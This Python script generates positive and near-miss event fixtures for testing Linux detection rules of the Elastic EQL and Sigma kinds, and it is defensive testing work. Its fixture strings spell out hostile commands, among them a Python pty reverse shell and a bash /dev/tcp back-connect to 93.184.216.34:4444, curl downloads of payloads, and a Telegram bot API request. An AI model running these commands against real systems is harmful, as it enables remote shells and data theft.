#!/usr/bin/env python3
"""Write the event fixtures of tests/corpus-proofs/ (run from anywhere).

Each proof is a corpus rule (../shared/corpus/CORPUS/NAME.toml, or a
Sigma .yml anywhere under its corpus directory) and two
fixtures written from that rule's query: NAME.pos.jsonl, the events the
rule describes, which must raise exactly one alert, and NAME.neg.jsonl,
a near miss (the same events with the one field the rule turns on
changed, or the sequence out of order, outside its maxspan or on another
join key), which must raise none. The comment of each proof says what
the near miss changes. run.sh replays both through `kload test`.

Events are Event JSONL (loader/ecs_decode.c), Elastic Defend's shape.
"""
import copy
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
HOST = {"name": "proof-01", "id": "5f1c0a9e2b7d4c8e9a3f6b1d2c4e8a70"}
PUBLIC = "93.184.216.34"        # routable, outside every excluded range


def ts(sec):
    whole = int(sec)
    return "2026-01-02T03:%02d:%02d.%03dZ" % (4 + whole // 60, whole % 60,
                                            round((sec - whole) * 1000))


def proc(pid, exe, args, ppid=1, pexe="/usr/bin/bash", **extra):
    """A process block: entity ids from the pid, names from the paths."""
    p = {"pid": pid, "entity_id": "%d-77%d" % (pid, pid), "executable": exe,
         "name": os.path.basename(exe), "args": args,
         "parent": {"pid": ppid, "entity_id": "%d-77%d" % (ppid, ppid),
                    "executable": pexe, "name": os.path.basename(pexe)}}
    for k, v in extra.items():
        if k == "parent":
            p["parent"].update(v)
        else:
            p[k] = v
    return p


def ev(sec, category, action, process, uid=1000, **fields):
    e = {"@timestamp": ts(sec), "event": {"category": category, "action": action},
         "host": HOST, "process": process, "user": {"id": uid}, "group": {"id": uid}}
    e.update(fields)
    return e


def exec_(sec, process, uid=1000):
    return ev(sec, "process", "exec", process, uid)


def connect(sec, process, ip, port, action="connection_attempted", uid=1000):
    p = {k: v for k, v in process.items() if k != "args"}
    return ev(sec, "network", action, p, uid,
              source={"ip": "10.0.0.5", "port": 40000 + int(sec * 10) % 1000},
              destination={"ip": ip, "port": port}, network={"transport": "tcp"})


def file_(sec, action, process, path, uid=1000):
    p = {k: v for k, v in process.items() if k != "args"}
    return ev(sec, "file", action, p, uid, file={"path": path})


def rename_(sec, process, path, orig, uid=1000):
    """A rename as Elastic Defend writes it: file.path the new path,
    file.Ext.original.path the old one (names derived by the decoder)."""
    e = file_(sec, "rename", process, path, uid)
    e["file"]["Ext"] = {"original": {"path": orig}}
    return e


def with_(event, **changes):
    """A copy of event with dotted fields changed: with_(e, **{"process.name": "x"})."""
    e = copy.deepcopy(event)
    for dotted, value in changes.items():
        obj = e
        keys = dotted.split(".")
        for k in keys[:-1]:
            obj = obj.setdefault(k, {})
        obj[keys[-1]] = value
    return e


PROOFS = {}


def proof(name, corpus="elastic-linux-eql"):
    def reg(fn):
        PROOFS[name] = (corpus, fn)
        return fn
    return reg


# ---- sequences ----------------------------------------------------------

@proof("lateral_movement_telnet_network_activity_internal")
def _():
    # telnet started, then the same process connects to a private address.
    # Near miss: the connect comes from another telnet process (join key).
    t = proc(4101, "/usr/bin/telnet", ["telnet", "10.1.2.3", "23"], 4100)
    other = proc(4102, "/usr/bin/telnet", ["telnet", "10.1.2.3", "23"], 4100)
    return ([exec_(0, t), connect(1, t, "10.1.2.3", 23)],
            [exec_(0, t), connect(1, other, "10.1.2.3", 23)])


@proof("lateral_movement_telnet_network_activity_external")
def _():
    # Near miss: the destination is private (10.1.2.3), the internal rule's case.
    t = proc(4201, "/usr/bin/telnet", ["telnet", PUBLIC, "23"], 4200)
    return ([exec_(0, t), connect(1, t, PUBLIC, 23)],
            [exec_(0, t), connect(1, t, "10.1.2.3", 23)])


@proof("execution_shell_via_suspicious_binary")
def _():
    # a binary in /tmp started by a shell connects out, then becomes a
    # shell (exec in the same process). Near miss: out of order, the
    # connect before the binary's exec.
    b = proc(4301, "/tmp/.x/agent", ["/tmp/.x/agent"], 4300)
    sh = proc(4301, "/usr/bin/bash", ["bash", "-i"], 4300)
    run, net, shell = exec_(0, b), connect(0.2, b, PUBLIC, 4444), exec_(0.4, sh)
    return ([run, net, shell], [with_(net, **{"@timestamp": ts(0)}),
                                with_(run, **{"@timestamp": ts(0.2)}), shell])


@proof("execution_file_execution_followed_by_deletion")
def _():
    # curl writes /tmp/payload, a shell runs it, something other than rm
    # deletes it. Near miss: rm deletes it (the rule leaves rm out).
    curl = proc(4401, "/usr/bin/curl", ["curl", "-o", "/tmp/payload", "http://" + PUBLIC + "/p"], 4400)
    pay = proc(4402, "/tmp/payload", ["/tmp/payload"], 4400)
    rm = proc(4403, "/usr/bin/unlink", ["unlink", "/tmp/payload"], 4400)
    evs = [file_(0, "creation", curl, "/tmp/payload"), exec_(1, pay),
           file_(2, "deletion", rm, "/tmp/payload")]
    neg = copy.deepcopy(evs)
    neg[2] = with_(neg[2], **{"process.name": "rm", "process.executable": "/usr/bin/rm"})
    return evs, neg


@proof("defense_evasion_execution_followed_by_self_deletion")
def _():
    # a program run from /tmp deletes its own file. Near miss: it deletes
    # another file of /tmp (the join is the executable's path).
    p = proc(4501, "/tmp/.cache/upd", ["/tmp/.cache/upd"], 4500)
    run = exec_(0, p)
    return ([run, file_(1, "deletion", p, "/tmp/.cache/upd")],
            [run, file_(1, "deletion", p, "/tmp/.cache/upd.log")])


@proof("defense_evasion_multi_base64_decoding_attempt")
def _():
    # two base64 -d from the same parent in /tmp within 3 s. Near miss:
    # the second 4 s after the first (maxspan=3s).
    a = proc(4601, "/usr/bin/base64", ["base64", "-d"], 4600, working_directory="/tmp/w")
    b = proc(4602, "/usr/bin/base64", ["base64", "-d"], 4600, working_directory="/tmp/w")
    return ([exec_(0, a), exec_(1, b)], [exec_(0, a), exec_(4, b)])


@proof("execution_shell_via_lolbin_interpreter_linux")
def _():
    # python -c "...pty.spawn..." from a shell connects out. Near miss:
    # the connect goes to loopback (excluded by cidrmatch).
    py = proc(4701, "/usr/bin/python3.11",
              ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"%s\",4444));"
               "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")" % PUBLIC], 4700)
    py["name"] = "python3"
    run = exec_(0, py)
    return ([run, connect(0.3, py, PUBLIC, 4444)], [run, connect(0.3, py, "127.0.0.1", 4444)])


@proof("command_and_control_netcon_file_creation")
def _():
    # a program in /tmp connects out, then writes a file. Near miss: the
    # file is named tmp* (excluded).
    p = proc(4801, "/tmp/agent", ["/tmp/agent"], 4800)
    net = connect(0, p, PUBLIC, 443)
    return ([net, file_(1, "creation", p, "/var/tmp/stage2.bin")],
            [net, file_(1, "creation", p, "/var/tmp/tmp_stage2.bin")])


@proof("command_and_control_git_repo_or_file_download_to_sus_dir")
def _():
    # git clone, then the same process creates a file under /tmp. Near
    # miss: the clone's parent is git itself (excluded).
    g = proc(4901, "/usr/bin/git", ["git", "clone", "https://github.com/x/y", "/tmp/y"], 4900)
    run = exec_(0, g)
    nrun = exec_(0, with_(g, **{"parent.name": "git", "parent.executable": "/usr/bin/git"}))
    f = file_(1, "creation", g, "/tmp/y/.git/config")
    return [run, f], [nrun, f]


@proof("privilege_escalation_potential_wildcard_shell_spawn")
def _():
    # tar --checkpoint-action runs a shell (its child). Near miss: the
    # shell is the child of another tar (join: tar's entity, sh's parent).
    tar = proc(5001, "/usr/bin/tar", ["tar", "cf", "a.tar", "--checkpoint=1",
                                      "--checkpoint-action=exec=sh x.sh", "*"], 5000)
    sh = proc(5002, "/usr/bin/dash", ["sh", "-c", "sh x.sh"], 5001, "/usr/bin/tar")
    sh["name"] = "sh"
    other = with_(sh, **{"parent.pid": 5003, "parent.entity_id": "5003-775003"})
    return [exec_(0, tar), exec_(0.5, sh)], [exec_(0, tar), exec_(0.5, other)]


@proof("privilege_escalation_overlayfs_local_privesc")
def _():
    # unshare -rm by a user, then a uid change to 0 under the same
    # parent. Near miss: the uid change 61 s later (maxspan=60s).
    u = proc(5101, "/usr/bin/unshare", ["unshare", "-rm", "sh", "-c", "./exploit"], 5100)
    x = proc(5102, "/tmp/exploit", ["./exploit"], 5100)
    ch = ev(1, "process", "uid_change", x, 0)
    return ([exec_(0, u), ch], [exec_(0, u), with_(ch, **{"@timestamp": ts(61)})])


@proof("credential_access_ssh_password_grabbing_via_strace")
def _():
    # an sshd ends, then strace starts within 3 s. Near miss: strace first.
    sshd = proc(5201, "/usr/sbin/sshd", ["sshd: alice [priv]"], 1, "/usr/sbin/sshd")
    st = proc(5202, "/usr/bin/strace", ["strace", "-f", "-p", "5190", "-e", "trace=read,write"], 5200)
    end = with_(ev(0, "process", "end", sshd, 0), **{"process.exit_code": 0})
    return ([end, exec_(1, st, 0)], [exec_(0, st, 0), with_(end, **{"@timestamp": ts(1)})])


@proof("persistence_simple_web_server_connection_accepted")
def _():
    # php -S starts, then the same process accepts a connection. Near
    # miss: "php -v" (no -S: not a web server).
    php = proc(5301, "/usr/bin/php8.2", ["php", "-S", "0.0.0.0:8080"], 5300)
    php["name"] = "php"
    acc = connect(2, php, "10.0.0.5", 8080, "connection_accepted")
    return ([exec_(0, php), acc], [exec_(0, with_(php, args=["php", "-v"])), acc])


@proof("impact_data_encrypted_via_openssl")
def _():
    # ten openssl encryptions (-pass, -in, -out) by one user from one
    # shell within 5 s (runs=10; the join is host.id, user.name and the
    # parent's entity). Near miss: the tenth by another user name.
    o = proc(5401, "/usr/bin/openssl", ["openssl", "enc", "-aes-256-cbc", "-pass", "pass:k",
                                         "-in", "doc.pdf", "-out", "doc.pdf.enc"], 5400)
    runs = [with_(exec_(i * 0.4, with_(o, pid=5401 + i, entity_id="%d-77%d" % (5401 + i, 5401 + i))),
                  **{"user.name": "alice"}) for i in range(10)]
    neg = runs[:9] + [with_(runs[9], **{"user.name": "bob"})]
    return runs, neg


@proof("execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter")
def _():
    # a shell runs curl of a script by address and a sh reading the pipe,
    # which ends within 1 s, both in the shell's working directory (the
    # join: host.id, the parent's entity, process.working_directory).
    # Near miss: the sh ran in another directory.
    curl = proc(5501, "/usr/bin/curl", ["curl", "http://%s/x.sh" % PUBLIC], 5500,
                working_directory="/home/alice")
    sh = proc(5502, "/usr/bin/dash", ["sh"], 5500, working_directory="/home/alice")
    sh["name"] = "sh"
    end = with_(ev(0.5, "process", "end", sh), **{"process.exit_code": 0})
    return ([exec_(0, curl), end],
            [exec_(0, curl), with_(end, **{"process.working_directory": "/tmp"})])


@proof("execution_payload_downloaded_by_interpreter_and_piped_to_interpreter")
def _():
    # python connects out, then a sh reading its stdin (args "sh") starts
    # within 1 s, same parent, same working directory (the join: host.id,
    # the parent's entity, process.working_directory). Near miss: the sh
    # runs in another directory.
    py = proc(5601, "/usr/bin/python3.11", ["python3", "-c", "print(1)"], 5600,
              working_directory="/tmp/w")
    py["name"] = "python3"
    sh = proc(5602, "/usr/bin/dash", ["sh"], 5600, working_directory="/tmp/w")
    sh["name"] = "sh"
    net = connect(0, py, PUBLIC, 80)
    return ([net, exec_(0.5, sh)],
            [net, exec_(0.5, with_(sh, working_directory="/root"))])


def in_session(process, leader, entry=None):
    """process in the session whose leader is the process `leader` (a pid,
    entity id as proc() makes it) and the entry of `entry` (the session
    leader when None), as the kernel fills process.*_leader."""
    p = copy.deepcopy(process)
    for key, pid in (("session_leader", leader), ("entry_leader", entry or leader)):
        p[key] = {"entity_id": "%d-77%d" % (pid, pid), "pid": pid}
    return p


@proof("privilege_escalation_sudo_token_via_process_injection")
def _():
    # a user's gdb, then sudo of the same session turns root (uid_change).
    # Near miss: the sudo runs in another session (session_leader.entity_id).
    gdb = in_session(proc(6101, "/usr/bin/gdb", ["gdb", "-p", "6090"], 6100,
                          user={"id": 1000}, group={"id": 1000}), 6100)
    sudo = in_session(proc(6102, "/usr/bin/sudo", ["sudo", "-v"], 6100,
                           user={"id": 0}, group={"id": 0}), 6100)
    up = ev(2, "process", "uid_change", sudo, 1000)
    other = with_(up, **{"process.session_leader": {"entity_id": "6200-776200", "pid": 6200}})
    return [exec_(0, gdb), up], [exec_(0, gdb), other]


def ptrace_gdb(pid, leader):
    """gdb run by a user holding CAP_SYS_PTRACE, in the entry of leader."""
    return in_session(proc(pid, "/usr/bin/gdb", ["gdb", "-p", "1"], leader,
                           thread={"capabilities": {"effective": ["CAP_SYS_PTRACE"],
                                                    "permitted": ["CAP_SYS_PTRACE"]}}),
                      leader)


@proof("privilege_escalation_gdb_sys_ptrace_netcon")
def _():
    # gdb with CAP_SYS_PTRACE, then a root process of the same entry
    # connects out. Near miss: the root process is of another entry
    # (entry_leader.entity_id; the session leader is the same).
    gdb = ptrace_gdb(6301, 6300)
    sh = in_session(proc(6302, "/usr/bin/bash", ["bash", "-i"], 1, "/usr/lib/systemd/systemd"),
                    6300)
    other = in_session(sh, 6300, 6400)
    return ([exec_(0, gdb), connect(3, sh, PUBLIC, 4444, uid=0)],
            [exec_(0, gdb), connect(3, other, PUBLIC, 4444, uid=0)])


@proof("privilege_escalation_gdb_sys_ptrace_elevation")
def _():
    # gdb with CAP_SYS_PTRACE, then a root process starts in the same
    # entry. Near miss: the root process starts 61 s later (maxspan=1m).
    gdb = ptrace_gdb(6501, 6500)
    sh = in_session(proc(6502, "/usr/bin/dash", ["sh"], 6500), 6500)
    return ([exec_(0, gdb), exec_(5, sh, 0)], [exec_(0, gdb), exec_(61, sh, 0)])


# ---- single events: process --------------------------------------------

def one_exec(pid, exe, args, uid=1000, neg_args=None, neg=None, neg_uid=None, **extra):
    """One exec; its near miss is the same exec with neg_args as its
    arguments, neg's dotted process fields changed, or run by neg_uid."""
    p = proc(pid, exe, args, pid - 1, **extra)
    bad = with_(p, **(neg or {}))
    if neg_args is not None:
        bad["args"] = neg_args
    return [exec_(0, p, uid)], [exec_(0, bad, uid if neg_uid is None else neg_uid)]


@proof("execution_python_webserver_spawned")
def _():
    # Near miss: started by systemd (excluded parent).
    return one_exec(5401, "/usr/bin/python3.11", ["python3", "-m", "http.server", "8000"],
                    neg={"parent.executable": "/usr/lib/systemd/systemd",
                         "parent.name": "systemd"})


@proof("discovery_suspicious_memory_grep_activity")
def _():
    # Near miss: "heap" without brackets.
    return one_exec(5501, "/usr/bin/grep", ["grep", "[heap]", "/proc/812/maps"],
                    neg_args=["grep", "heap", "/proc/812/maps"])


@proof("defense_evasion_clear_kernel_ring_buffer")
def _():
    # Near miss: dmesg -T only reads.
    return one_exec(5601, "/usr/bin/dmesg", ["dmesg", "-C"], 0, neg_args=["dmesg", "-T"])


@proof("execution_interpreter_tty_upgrade")
def _():
    # Near miss: its parent's command line is a bootstrap script (excluded).
    return one_exec(5701, "/usr/bin/stty", ["stty", "raw", "-echo"],
                    parent={"command_line": "bash -i"},
                    neg={"parent.command_line": "sh ./bootstrap.sh"})


@proof("discovery_process_capabilities")
def _():
    # Near miss: root runs it (the rule wants a non-root user).
    return one_exec(5801, "/usr/sbin/getcap", ["getcap", "-r", "/"], 1000, neg_uid=0)


@proof("defense_evasion_attempt_to_disable_auditd_service")
def _():
    # Near miss: systemctl status, not stop.
    return one_exec(5901, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], 0,
                    neg_args=["systemctl", "status", "auditd"])


@proof("command_and_control_telegram_api_request")
def _():
    # Near miss: another host.
    return one_exec(6001, "/usr/bin/curl",
                    ["curl", "-s", "https://api.telegram.org/bot123:abc/sendMessage"],
                    neg_args=["curl", "-s", "https://api.example.org/bot123:abc/sendMessage"])


@proof("execution_process_started_from_process_id_file")
def _():
    # a program run as root from a /var/run/*.pid file (a regex~ in
    # userspace). Near miss: /var/run/x.pids does not match the regex.
    return one_exec(6101, "/var/run/crond.pid", ["/var/run/crond.pid"], 0,
                    neg={"executable": "/var/run/crond.pids", "name": "crond.pids",
                         "args": ["/var/run/crond.pids"]})


# ---- single events: file and network -----------------------------------

def one_file(pid, exe, action, path, neg_path=None, neg=None, uid=1000):
    p = proc(pid, exe, [os.path.basename(exe)], pid - 1)
    pos = file_(0, action, p, path, uid)
    bad = with_(pos, **(neg or {}))
    if neg_path:
        bad = with_(bad, **{"file.path": neg_path})
    return [pos], [bad]


@proof("defense_evasion_hidden_shared_object")
def _():
    # Near miss: the same library, not hidden.
    return one_file(6201, "/usr/bin/cp", "creation", "/tmp/.libx.so", "/tmp/libx.so")


@proof("privilege_escalation_pkexec_envar_hijack")
def _():
    # Near miss: GCONV without _PATH.
    return one_file(6301, "/usr/bin/mkdir", "creation", "/tmp/w/GCONV_PATH=./x", "/tmp/w/GCONV=./x")


@proof("defense_evasion_log_files_deleted")
def _():
    # Near miss: gzip deletes it (log rotation, excluded).
    return one_file(6401, "/usr/bin/shred", "deletion", "/var/log/wtmp", uid=0,
                    neg={"process.name": "gzip", "process.executable": "/usr/bin/gzip"})


@proof("persistence_ssh_key_generation")
def _():
    # Near miss: ssh-keygen writes known_hosts.old (excluded).
    return one_file(6501, "/usr/bin/ssh-keygen", "creation", "/root/.ssh/id_ed25519",
                    "/root/.ssh/known_hosts.old", uid=0)


@proof("defense_evasion_authorized_keys_file_deletion")
def _():
    # Near miss: a backup copy (path with "backup", excluded).
    return one_file(6601, "/usr/bin/rm", "deletion", "/home/alice/.ssh/authorized_keys",
                    "/home/alice/backup/.ssh/authorized_keys")


@proof("lateral_movement_kubelet_api_connection_attempt_internal_ip")
def _():
    # curl to a kubelet port on a private address. Near miss: port 10251.
    p = proc(6701, "/usr/bin/curl", ["curl", "-k", "https://10.0.0.9:10250/pods"], 6700)
    c = with_(connect(0, p, "10.0.0.9", 10250), **{"network.direction": "egress"})
    return [c], [with_(c, **{"destination.port": 10251})]


# ---- Sigma ----------------------------------------------------------------

@proof("file_event_lnx_wget_download_file_in_tmp_dir", "sigma-linux")
def _():
    # Near miss: wget writes to the user's home, not /tmp.
    return one_file(6801, "/usr/bin/wget", "creation", "/tmp/x.sh", "/root/x.sh", uid=0)


@proof("file_event_lnx_susp_cron_file_created", "sigma-linux")
def _():
    # Near miss: /etc/cron.daily/apt (the filter of legitimate files).
    return one_file(6901, "/usr/bin/cp", "creation", "/etc/cron.daily/update",
                    "/etc/cron.daily/apt", uid=0)


# ---- renames: file.Ext.original.* -------------------------------------

@proof("persistence_shadow_file_modification")
def _():
    # a script renames its own file over /etc/shadow. Near miss: the
    # source is /etc/nshadow, the account tools' temporary file.
    py = proc(6101, "/usr/bin/python3.11", ["python3", "/tmp/.u.py"], 6100)
    e = rename_(0, py, "/etc/shadow", "/tmp/.shadow.new", uid=0)
    return [e], [with_(e, **{"file.Ext.original.path": "/etc/nshadow"})]


@proof("defense_evasion_rename_esxi_files")
def _():
    # a virtual disk renamed to another extension (ransomware's).
    # Near miss: renamed to another .vmdk name.
    enc = proc(6201, "/tmp/enc", ["/tmp/enc", "/vmfs/volumes/ds1"], 6200)
    e = rename_(0, enc, "/vmfs/volumes/ds1/vm1/vm1.vmdk.lock1",
                "/vmfs/volumes/ds1/vm1/vm1.vmdk", uid=0)
    return [e], [with_(e, **{"file.path": "/vmfs/volumes/ds1/vm1/vm1-old.vmdk"})]


@proof("persistence_cron_job_creation")
def _():
    # a file renamed into /etc/cron.d. Near miss: its source is a
    # package's .dpkg-new file (file.Ext.original.extension).
    mv = proc(6301, "/usr/bin/mv", ["mv", "/tmp/job", "/etc/cron.d/job"], 6300)
    e = rename_(0, mv, "/etc/cron.d/job", "/tmp/job", uid=0)
    return [e], [with_(e, **{"file.Ext.original.path": "/etc/cron.d/job.dpkg-new"})]


@proof("net_connection_lnx_back_connect_shell_dev", "sigma-linux")
def _():
    # bash connects out (/dev/tcp). Near miss: to 127.0.0.1 (filtered).
    p = proc(7001, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/%s/4444" % PUBLIC], 7000)
    return [connect(0, p, PUBLIC, 4444)], [connect(0, p, "127.0.0.1", 4444)]


@proof("proc_creation_lnx_base64_decode", "sigma-linux")
def _():
    # Near miss: base64 encodes (no -d in its command line).
    return one_exec(7101, "/usr/bin/base64", ["base64", "-d", "/tmp/blob"],
                    neg_args=["base64", "-w0", "/tmp/blob"])


@proof("persistence_rc_local_service_already_running")
def _():
    # A shell that rc-local.service started before the sensor ran, seen
    # in the already_running event kload reads from /proc at attach
    # (event.type info, decided in userspace). Near miss: the same process
    # seen by its exec (event.type start), which the rule does not ask for.
    p = proc(6401, "/usr/bin/sleep", ["sleep", "infinity"], 6400, pexe="/usr/bin/dash",
             parent={"args": ["/bin/sh", "-e", "/etc/rc.local", "start"]})
    e = ev(0, "process", "already_running", p, uid=0)
    return [e], [with_(e, **{"event.action": "exec"})]


@proof("persistence_webserver_suspicious_command_execution")
def _():
    # nginx runs a shell command that reads /etc/passwd (a 386-insn
    # step program). Near miss: the command lists a directory.
    return one_exec(6501, "/usr/bin/dash", ["sh", "-c", "cat /etc/passwd"], uid=33,
                    pexe="/usr/sbin/nginx", neg_args=["sh", "-c", "ls -la /var/www"])

def main():
    for name, (corpus, fn) in sorted(PROOFS.items()):
        out = os.path.join(HERE, corpus)
        os.makedirs(out, exist_ok=True)
        pos, neg = fn()
        for kind, events in (("pos", pos), ("neg", neg)):
            with open(os.path.join(out, "%s.%s.jsonl" % (name, kind)), "w") as f:
                for e in events:
                    f.write(json.dumps(e, separators=(",", ":")) + "\n")
    print("%d proofs written under %s" % (len(PROOFS), HERE))


if __name__ == "__main__":
    sys.exit(main())
